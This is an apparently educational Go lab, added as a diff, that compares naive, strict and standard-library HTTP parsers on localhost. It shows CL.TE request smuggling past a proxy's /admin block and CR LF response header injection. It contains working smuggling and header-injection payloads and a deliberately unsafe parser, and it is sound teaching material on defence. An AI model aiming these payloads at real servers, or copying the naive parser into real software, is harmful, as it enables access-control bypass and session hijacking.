@@ -0,0 +1,791 @@
+// HTTP Smuggling Lab - Why hand-rolled HTTP parsing is dangerous
+//
+// HTTP/1.1 looks like "split on newlines and colons", which is why
+// people parse it by hand. The trouble is that two programs on the
+// same path (a proxy and a backend) must agree on exactly where each
+// request ends. When they disagree, bytes one thinks are body the
+// other reads as a new request. This lab parses the same raw inputs
+// three ways over real TCP connections:
+// - naive: the parser everybody writes first. Accepts bare LF,
+//   spaces before the colon, "+5" as a length, "chunked" anywhere in
+//   Transfer-Encoding, and both length headers at once
+// - strict: RFC 9112 rules. Anything ambiguous is an error, because
+//   rejecting is the only answer every hop agrees on
+// - net/http: what the standard library server does with the input
+//
+// Then it runs three attacks against a proxy and a backend:
+// - CL.TE smuggling: the proxy trusts Content-Length, the backend
+//   trusts Transfer-Encoding, and a hidden request reaches a path the
+//   proxy blocks, answered to the next user on the connection
+// - Header injection: a CR LF in a value put into a response header
+//   adds headers of the attacker's choosing (response splitting)
+// - The same attacks against the strict parser and net/http
+//
+// Everything stays on 127.0.0.1. Do not point this at servers you do
+// not own.
+//
+// Usage:
+//   go run http_smuggling.go
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// ============================================================
+// Request model
+// ============================================================
+
+type Request struct {
+	Method, Target, Proto string
+	Header                [][2]string // in wire order, duplicates kept
+	Body                  []byte
+}
+
+func (r *Request) Get(name string) []string {
+	var vs []string
+	for _, h := range r.Header {
+		if strings.EqualFold(h[0], name) {
+			vs = append(vs, h[1])
+		}
+	}
+	return vs
+}
+
+// Parser reads one request off a connection. Whatever it leaves in the
+// reader is the start of the next request
+type Parser interface {
+	Name() string
+	Parse(br *bufio.Reader) (*Request, error)
+}
+
+// ============================================================
+// The naive parser
+// ============================================================
+
+// NaiveParser is what a first attempt looks like. Every shortcut is
+// somebody's real bug. PreferTE picks which length header wins when
+// both are present - the one decision two naive parsers are most
+// likely to make differently
+type NaiveParser struct {
+	PreferTE bool
+}
+
+func (p NaiveParser) Name() string {
+	if p.PreferTE {
+		return "naive (TE first)"
+	}
+	return "naive (CL first)"
+}
+
+func (p NaiveParser) Parse(br *bufio.Reader) (*Request, error) {
+	line, err := br.ReadString('\n')
+	if err != nil {
+		return nil, err
+	}
+	parts := strings.Fields(line) // any whitespace, any amount
+	if len(parts) < 3 {
+		return nil, errors.New("bad request line")
+	}
+	req := &Request{Method: parts[0], Target: parts[1], Proto: parts[2]}
+
+	for {
+		line, err := br.ReadString('\n')
+		if err != nil {
+			return nil, err
+		}
+		line = strings.TrimRight(line, "\r\n") // bare LF is fine too
+		if line == "" {
+			break
+		}
+		name, value, ok := strings.Cut(line, ":")
+		if !ok {
+			continue // junk lines are skipped
+		}
+		// "Content-Length : 5" becomes Content-Length
+		req.Header = append(req.Header, [2]string{strings.TrimSpace(name), strings.TrimSpace(value)})
+	}
+
+	te := strings.ToLower(strings.Join(req.Get("Transfer-Encoding"), ","))
+	chunked := strings.Contains(te, "chunked") // "xchunked" counts
+	cls := req.Get("Content-Length")
+	switch {
+	case chunked && (p.PreferTE || len(cls) == 0):
+		req.Body, err = readChunked(br, false)
+		return req, err
+	case len(cls) > 0:
+		n, err := strconv.Atoi(cls[0]) // first one wins; "+5" parses
+		if err != nil || n < 0 {
+			return nil, errors.New("bad Content-Length")
+		}
+		req.Body = make([]byte, n)
+		_, err = io.ReadFull(br, req.Body)
+		return req, err
+	}
+	return req, nil
+}
+
+// ============================================================
+// The strict parser
+// ============================================================
+
+// StrictParser follows RFC 9112 and turns every ambiguity into an
+// error. It doesn't try to guess what the sender meant: any guess is a
+// guess another hop can make differently
+type StrictParser struct{}
+
+func (StrictParser) Name() string { return "strict" }
+
+const (
+	maxLine    = 8 << 10
+	maxHeaders = 100
+	maxBody    = 1 << 20
+)
+
+// readLine returns one CRLF-terminated line without the CRLF
+func readLine(br *bufio.Reader) (string, error) {
+	line, err := br.ReadSlice('\n')
+	if errors.Is(err, bufio.ErrBufferFull) || len(line) > maxLine {
+		return "", errors.New("line too long")
+	}
+	if err != nil {
+		return "", err
+	}
+	if len(line) < 2 || line[len(line)-2] != '\r' {
+		return "", errors.New("bare LF line ending")
+	}
+	line = line[:len(line)-2]
+	if bytes.IndexByte(line, '\r') >= 0 {
+		return "", errors.New("bare CR inside line")
+	}
+	return string(line), nil
+}
+
+// isToken reports whether s is an RFC 9110 token (method and header
+// names)
+func isToken(s string) bool {
+	if s == "" {
+		return false
+	}
+	for _, c := range []byte(s) {
+		if c <= ' ' || c >= 0x7f || strings.IndexByte(`"(),/:;<=>?@[\]{}`, c) >= 0 {
+			return false
+		}
+	}
+	return true
+}
+
+func validValue(s string) bool {
+	for _, c := range []byte(s) {
+		if c < ' ' && c != '\t' || c == 0x7f {
+			return false
+		}
+	}
+	return true
+}
+
+func (StrictParser) Parse(br *bufio.Reader) (*Request, error) {
+	line, err := readLine(br)
+	if err != nil {
+		return nil, err
+	}
+	// Exactly method SP target SP version
+	parts := strings.Split(line, " ")
+	if len(parts) != 3 || !isToken(parts[0]) || parts[1] == "" {
+		return nil, errors.New("malformed request line")
+	}
+	if parts[2] != "HTTP/1.1" && parts[2] != "HTTP/1.0" {
+		return nil, errors.New("unsupported protocol version")
+	}
+	req := &Request{Method: parts[0], Target: parts[1], Proto: parts[2]}
+
+	for {
+		line, err := readLine(br)
+		if err != nil {
+			return nil, err
+		}
+		if line == "" {
+			break
+		}
+		if line[0] == ' ' || line[0] == '\t' {
+			// obs-fold: a continuation line. Some hops join it to the
+			// previous header, others treat it as a header of its own
+			return nil, errors.New("obsolete line folding")
+		}
+		name, value, ok := strings.Cut(line, ":")
+		if !ok || !isToken(name) {
+			// Includes "Content-Length : 5": no whitespace is allowed
+			// between name and colon (RFC 9112 section 5.1)
+			return nil, fmt.Errorf("invalid header name %q", name)
+		}
+		value = strings.Trim(value, " \t")
+		if !validValue(value) {
+			return nil, fmt.Errorf("control character in %s", name)
+		}
+		if len(req.Header) == maxHeaders {
+			return nil, errors.New("too many headers")
+		}
+		req.Header = append(req.Header, [2]string{name, value})
+	}
+
+	if req.Proto == "HTTP/1.1" && len(req.Get("Host")) != 1 {
+		return nil, errors.New("HTTP/1.1 needs exactly one Host")
+	}
+
+	te, cls := req.Get("Transfer-Encoding"), req.Get("Content-Length")
+	switch {
+	case len(te) > 0 && len(cls) > 0:
+		// RFC 9112 section 6.3: "ought to be handled as an error"
+		return nil, errors.New("both Transfer-Encoding and Content-Length")
+	case len(te) > 0:
+		// The only coding a server must know, and it must be the
+		// only one, spelled exactly
+		if len(te) != 1 || !strings.EqualFold(te[0], "chunked") {
+			return nil, fmt.Errorf("unsupported Transfer-Encoding %q", strings.Join(te, ", "))
+		}
+		req.Body, err = readChunked(br, true)
+		return req, err
+	case len(cls) > 0:
+		// Repeats are allowed only if identical, and "5, 5" is the
+		// same thing written on one line
+		var n int64 = -1
+		for _, cl := range cls {
+			for v := range strings.SplitSeq(cl, ",") {
+				m, err := parseDigits(strings.Trim(v, " \t"))
+				if err != nil || n >= 0 && m != n {
+					return nil, fmt.Errorf("invalid Content-Length %q", strings.Join(cls, ", "))
+				}
+				n = m
+			}
+		}
+		if n > maxBody {
+			return nil, errors.New("body too large")
+		}
+		req.Body = make([]byte, n)
+		_, err = io.ReadFull(br, req.Body)
+		return req, err
+	}
+	return req, nil
+}
+
+// parseDigits accepts 1*DIGIT only: no sign, no spaces, no hex
+func parseDigits(s string) (int64, error) {
+	if s == "" || len(s) > 18 {
+		return 0, errors.New("bad number")
+	}
+	for _, c := range []byte(s) {
+		if c < '0' || c > '9' {
+			return 0, errors.New("bad number")
+		}
+	}
+	return strconv.ParseInt(s, 10, 64)
+}
+
+// readChunked decodes a chunked body. strict rejects sloppy size lines
+// and bare LFs the naive mode lets through
+func readChunked(br *bufio.Reader, strict bool) ([]byte, error) {
+	var body []byte
+	for {
+		var line string
+		var err error
+		if strict {
+			line, err = readLine(br)
+		} else {
+			line, err = br.ReadString('\n')
+			line = strings.TrimSpace(line)
+		}
+		if err != nil {
+			return nil, err
+		}
+		size, _, _ := strings.Cut(line, ";") // chunk extensions ignored
+		if strict && (size == "" || strings.Trim(size, "0123456789abcdefABCDEF") != "") {
+			return nil, fmt.Errorf("bad chunk size %q", size)
+		}
+		n, err := strconv.ParseInt(strings.TrimSpace(size), 16, 64)
+		if err != nil || n < 0 || n > maxBody-int64(len(body)) {
+			return nil, fmt.Errorf("bad chunk size %q", size)
+		}
+		if n == 0 {
+			// Trailer section, ending with an empty line
+			for {
+				if strict {
+					line, err = readLine(br)
+				} else {
+					line, err = br.ReadString('\n')
+					line = strings.TrimSpace(line)
+				}
+				if err != nil || line == "" {
+					return body, err
+				}
+			}
+		}
+		chunk := make([]byte, n+2)
+		if _, err := io.ReadFull(br, chunk); err != nil {
+			return nil, err
+		}
+		if strict && string(chunk[n:]) != "\r\n" {
+			return nil, errors.New("chunk not followed by CRLF")
+		}
+		body = append(body, chunk[:n]...)
+	}
+}
+
+// ============================================================
+// A tiny server around a Parser
+// ============================================================
+
+// serveConn answers requests on one keep-alive connection until the
+// parser fails. Every request gets "<method> <target> body=<n>"
+func serveConn(c net.Conn, p Parser, onRequest func(*Request)) {
+	defer c.Close()
+	br := bufio.NewReader(c)
+	for {
+		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
+		req, err := p.Parse(br)
+		if err != nil {
+			if !errors.Is(err, io.EOF) && !errors.Is(err, io.ErrUnexpectedEOF) && !isTimeout(err) {
+				body := err.Error()
+				fmt.Fprintf(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
+			}
+			return
+		}
+		if onRequest != nil {
+			onRequest(req)
+		}
+		body := fmt.Sprintf("%s %s body=%d", req.Method, req.Target, len(req.Body))
+		fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
+	}
+}
+
+func isTimeout(err error) bool {
+	var ne net.Error
+	return errors.As(err, &ne) && ne.Timeout()
+}
+
+func listen() net.Listener {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		log.Fatal(err)
+	}
+	return ln
+}
+
+func startParserServer(p Parser) string {
+	ln := listen()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go serveConn(c, p, nil)
+		}
+	}()
+	return ln.Addr().String()
+}
+
+// startStdlibServer is the same echo behind net/http
+func startStdlibServer() string {
+	ln := listen()
+	srv := &http.Server{
+		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			n, _ := io.Copy(io.Discard, r.Body)
+			fmt.Fprintf(w, "%s %s body=%d", r.Method, r.RequestURI, n)
+		}),
+		ReadHeaderTimeout: time.Second,
+	}
+	go srv.Serve(ln)
+	return ln.Addr().String()
+}
+
+// exchange writes raw bytes and collects every response that comes
+// back before the server goes quiet, summarized as "status: body"
+func exchange(addr, raw string) []string {
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		return []string{"dial: " + err.Error()}
+	}
+	defer c.Close()
+	c.Write([]byte(raw))
+	c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
+	br := bufio.NewReader(c)
+	var out []string
+	for {
+		resp, err := http.ReadResponse(br, nil)
+		if err != nil {
+			return out
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		out = append(out, fmt.Sprintf("%d %s", resp.StatusCode, firstLine(string(body))))
+	}
+}
+
+func summary(responses []string) string {
+	if len(responses) == 0 {
+		return "(no response)"
+	}
+	return strings.Join(responses, " | ")
+}
+
+func firstLine(s string) string {
+	s, _, _ = strings.Cut(s, "\n")
+	if len(s) > 60 {
+		s = s[:57] + "..."
+	}
+	return s
+}
+
+// ============================================================
+// Lab 1: the same bytes through three parsers
+// ============================================================
+
+type testInput struct {
+	name, why, raw string
+}
+
+// smuggledGet is a complete request hidden in a body: a parser that
+// misses the length header reads it as a second request
+const smuggledGet = "GET /b HTTP/1.1\r\nHost: lab\r\n\r\n"
+
+var inputs = []testInput{
+	{"well-formed POST", "the baseline: everyone agrees",
+		"POST /submit HTTP/1.1\r\nHost: lab\r\nContent-Length: 5\r\n\r\nhello"},
+	{"CL and TE together", "which header delimits the body? the answer is the attack",
+		"POST /a HTTP/1.1\r\nHost: lab\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX"},
+	{"two different CLs", "first-wins (as here) and last-wins parsers see different requests",
+		"POST /a HTTP/1.1\r\nHost: lab\r\nContent-Length: 0\r\nContent-Length: 30\r\n\r\n" + smuggledGet},
+	{"space before colon", `"Content-Length : 30" - a header or not?`,
+		"POST /a HTTP/1.1\r\nHost: lab\r\nContent-Length : 30\r\n\r\n" + smuggledGet},
+	{"signed length", `strconv.Atoi("+30") is 30; a parser that wants digits disagrees`,
+		"POST /a HTTP/1.1\r\nHost: lab\r\nContent-Length: +30\r\n\r\n" + smuggledGet},
+	{"obfuscated TE", `"xchunked" is not chunked, but contains it`,
+		"POST /a HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"},
+	{"bare LF endings", "LF-only lines: some hops split on them, some do not",
+		"GET /a HTTP/1.1\nHost: lab\n\n"},
+	{"obs-fold", "a continuation line hides Content-Length from line-joiners",
+		"POST /a HTTP/1.1\r\nHost: lab\r\nX-Note: hi\r\n Content-Length: 3\r\n\r\nabc"},
+	{"CR LF in a header value", "raw CR LF inside a value injected by an upstream",
+		"GET /a HTTP/1.1\r\nHost: lab\r\nX-User: bob\rX-Admin: yes\r\n\r\n"},
+	{"no Host", "HTTP/1.1 requires exactly one",
+		"GET /a HTTP/1.1\r\n\r\n"},
+}
+
+func lab1() {
+	fmt.Println("=== Lab 1: one input, three parsers ===")
+	fmt.Println("Each cell lists the responses that came back on one connection.")
+	fmt.Println("More than one response means the parser found a second request in the bytes.")
+	servers := []struct {
+		name, addr string
+	}{
+		{NaiveParser{}.Name(), startParserServer(NaiveParser{})},
+		{NaiveParser{PreferTE: true}.Name(), startParserServer(NaiveParser{PreferTE: true})},
+		{StrictParser{}.Name(), startParserServer(StrictParser{})},
+		{"net/http", startStdlibServer()},
+	}
+	for _, in := range inputs {
+		fmt.Printf("\n-- %s: %s\n", in.name, in.why)
+		var results []string
+		for _, s := range servers {
+			res := summary(exchange(s.addr, in.raw))
+			results = append(results, res)
+			fmt.Printf("   %-17s %s\n", s.name, res)
+		}
+		if results[0] != results[1] {
+			fmt.Println("   ^ the two naive parsers disagree: put them in a chain and this desyncs")
+		}
+	}
+}
+
+// ============================================================
+// Lab 2: CL.TE smuggling through a proxy
+// ============================================================
+
+// frontProxy is a reverse proxy with an access rule: /admin is only
+// reachable from inside. It parses with its own Parser and forwards
+// what it parsed over one shared, reused backend connection, like
+// proxies do to save on connections
+type frontProxy struct {
+	parser      Parser
+	backendAddr string
+
+	mu      sync.Mutex
+	backend net.Conn // nil until dialed, and after the backend hangs up
+	bbr     *bufio.Reader
+}
+
+// roundTrip sends one request upstream and reads one response back
+func (f *frontProxy) roundTrip(raw []byte) (status string, body []byte, err error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if f.backend == nil {
+		if f.backend, err = net.Dial("tcp", f.backendAddr); err != nil {
+			return "", nil, err
+		}
+		f.bbr = bufio.NewReader(f.backend)
+	}
+	f.backend.Write(raw)
+	resp, err := http.ReadResponse(f.bbr, nil)
+	if err == nil {
+		body, err = io.ReadAll(resp.Body)
+	}
+	if err != nil || resp.Close {
+		f.backend.Close()
+		f.backend = nil
+	}
+	if err != nil {
+		return "", nil, err
+	}
+	return resp.Status, body, nil
+}
+
+func (f *frontProxy) serve(c net.Conn) {
+	defer c.Close()
+	br := bufio.NewReader(c)
+	for {
+		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
+		req, err := f.parser.Parse(br)
+		if err != nil {
+			if !errors.Is(err, io.EOF) && !isTimeout(err) {
+				msg := "proxy: " + err.Error()
+				fmt.Fprintf(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(msg), msg)
+			}
+			return
+		}
+		if u, err := url.Parse(req.Target); err != nil || strings.HasPrefix(u.Path, "/admin") {
+			msg := "forbidden by proxy"
+			fmt.Fprintf(c, "HTTP/1.1 403 Forbidden\r\nContent-Length: %d\r\n\r\n%s", len(msg), msg)
+			continue
+		}
+
+		// Forward the request as received, headers and all: the proxy
+		// decided where it ends and trusts the backend to agree
+		var out bytes.Buffer
+		fmt.Fprintf(&out, "%s %s %s\r\n", req.Method, req.Target, req.Proto)
+		for _, h := range req.Header {
+			fmt.Fprintf(&out, "%s: %s\r\n", h[0], h[1])
+		}
+		out.WriteString("\r\n")
+		out.Write(req.Body)
+
+		status, body, err := f.roundTrip(out.Bytes())
+		if err != nil {
+			fmt.Fprintf(c, "HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
+			continue
+		}
+		fmt.Fprintf(c, "HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n%s", status, len(body), body)
+	}
+}
+
+// backend is the app behind the proxy. It has an /admin page and no
+// checks of its own - the proxy "handles" access. It records what it
+// actually received
+type backend struct {
+	name, addr string
+
+	mu   sync.Mutex
+	seen []string
+}
+
+func (b *backend) record(method, target string) string {
+	b.mu.Lock()
+	b.seen = append(b.seen, method+" "+target)
+	b.mu.Unlock()
+	if strings.HasPrefix(target, "/admin") {
+		return "ADMIN PANEL: api_key=sk-live-7f3e..."
+	}
+	return "page " + target
+}
+
+func (b *backend) log() string {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return strings.Join(b.seen, ", ")
+}
+
+func startParserBackend(p Parser) *backend {
+	b := &backend{name: p.Name()}
+	ln := listen()
+	b.addr = ln.Addr().String()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go serveBackendConn(c, p, b)
+		}
+	}()
+	return b
+}
+
+func serveBackendConn(c net.Conn, p Parser, b *backend) {
+	defer c.Close()
+	br := bufio.NewReader(c)
+	for {
+		req, err := p.Parse(br) // no deadline: the proxy's connection lives long
+		if err != nil {
+			if !errors.Is(err, io.EOF) {
+				msg := err.Error()
+				fmt.Fprintf(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(msg), msg)
+			}
+			return
+		}
+		body := b.record(req.Method, req.Target)
+		fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
+	}
+}
+
+func startStdlibBackend() *backend {
+	b := &backend{name: "net/http"}
+	ln := listen()
+	b.addr = ln.Addr().String()
+	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.Copy(io.Discard, r.Body)
+		io.WriteString(w, b.record(r.Method, r.RequestURI))
+	}))
+	return b
+}
+
+// startChain puts a proxy in front of b and returns its address
+func startChain(front Parser, b *backend) string {
+	f := &frontProxy{parser: front, backendAddr: b.addr}
+	ln := listen()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go f.serve(c)
+		}
+	}()
+	return ln.Addr().String()
+}
+
+// The attack. The proxy (CL) forwards the whole payload as one
+// request's body. The backend (TE) sees an empty chunked body ending
+// at "0\r\n\r\n", and keeps the rest as the start of the next request.
+// The dangling X-Ignore header swallows the request line of whoever
+// comes next
+const smugglePayload = "0\r\n\r\n" + "GET /admin HTTP/1.1\r\nHost: lab\r\nX-Ignore: "
+
+var smuggle = fmt.Sprintf("POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s",
+	len(smugglePayload), smugglePayload)
+
+const victim = "GET /home HTTP/1.1\r\nHost: lab\r\n\r\n"
+
+func runSmuggle(title string, front Parser, back *backend) {
+	addr := startChain(front, back)
+	fmt.Printf("\n-- %s: proxy %s, backend %s\n", title, front.Name(), back.name)
+	fmt.Printf("   direct GET /admin  -> %s\n", summary(exchange(addr, "GET /admin HTTP/1.1\r\nHost: lab\r\n\r\n")))
+	fmt.Printf("   attacker           -> %s\n", summary(exchange(addr, smuggle)))
+	fmt.Printf("   victim GET /home   -> %s\n", summary(exchange(addr, victim)))
+	fmt.Printf("   backend saw        : %s\n", back.log())
+}
+
+func lab2() {
+	fmt.Println("\n=== Lab 2: CL.TE request smuggling ===")
+	fmt.Println("The proxy blocks /admin. The attacker sends one request; then an innocent")
+	fmt.Println("user asks for /home on their own connection. Proxy and backend share one")
+	fmt.Println("upstream connection, as real ones do.")
+	runSmuggle("naive chain", NaiveParser{}, startParserBackend(NaiveParser{PreferTE: true}))
+	runSmuggle("strict proxy", StrictParser{}, startParserBackend(NaiveParser{PreferTE: true}))
+	runSmuggle("strict backend", NaiveParser{}, startParserBackend(StrictParser{}))
+	runSmuggle("net/http backend", NaiveParser{}, startStdlibBackend())
+	fmt.Println("\n   net/http does what RFC 9112 allows: Transfer-Encoding wins and Content-Length")
+	fmt.Println("   is dropped. Correct on its own, but it still disagrees with a CL proxy; the")
+	fmt.Println("   smuggled request failed above only because it ended up with two Host headers.")
+	fmt.Println("   No single hop can make a chain safe: parse strictly on every hop, and let the")
+	fmt.Println("   backend check authorization itself instead of trusting the proxy to.")
+}
+
+// ============================================================
+// Lab 3: header injection (response splitting)
+// ============================================================
+
+// A redirect endpoint that puts the "next" parameter into Location
+const injected = "/home\r\nSet-Cookie: session=attacker-chosen; Path=/\r\nX-Injected: yes"
+
+func lab3() {
+	fmt.Println("\n=== Lab 3: CR LF injection into a response header ===")
+	fmt.Printf("next=%q\n", injected)
+
+	// Hand-written response: the value is pasted in as is
+	naive := listen()
+	go func() {
+		for {
+			c, err := naive.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				req, err := http.ReadRequest(bufio.NewReader(c))
+				if err != nil {
+					return
+				}
+				next := req.URL.Query().Get("next")
+				fmt.Fprintf(c, "HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n", next)
+			}()
+		}
+	}()
+
+	// net/http: the same handler through ResponseWriter
+	std := listen()
+	go http.Serve(std, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Location", r.URL.Query().Get("next"))
+		w.WriteHeader(http.StatusFound)
+	}))
+
+	target := "/go?next=" + url.QueryEscape(injected)
+	for _, s := range []struct {
+		name string
+		ln   net.Listener
+	}{{"hand-written", naive}, {"net/http", std}} {
+		resp, err := rawGet(s.ln.Addr().String(), target)
+		if err != nil {
+			fmt.Printf("   %-13s error: %v\n", s.name, err)
+			continue
+		}
+		fmt.Printf("   %-13s Location=%q\n", s.name, resp.Header.Get("Location"))
+		fmt.Printf("   %-13s Set-Cookie=%q X-Injected=%q\n", "", resp.Header.Get("Set-Cookie"), resp.Header.Get("X-Injected"))
+	}
+	fmt.Println("   net/http turns CR and LF in header values into spaces when it writes")
+	fmt.Println("   them, so the value stays one (odd) header instead of becoming three.")
+
+	// The same guard on the client side
+	req, _ := http.NewRequest(http.MethodGet, "http://"+std.Addr().String()+"/", nil)
+	req.Header.Set("X-User", "bob\r\nX-Admin: yes")
+	_, err := http.DefaultClient.Do(req)
+	fmt.Printf("   client sending a CR LF header value: %v\n", err)
+}
+
+// rawGet sends a GET and parses the response with net/http's reader
+func rawGet(addr, target string) (*http.Response, error) {
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		return nil, err
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: lab\r\n\r\n", target)
+	return http.ReadResponse(bufio.NewReader(c), nil)
+}
+
+func main() {
+	lab1()
+	lab2()
+	lab3()
+}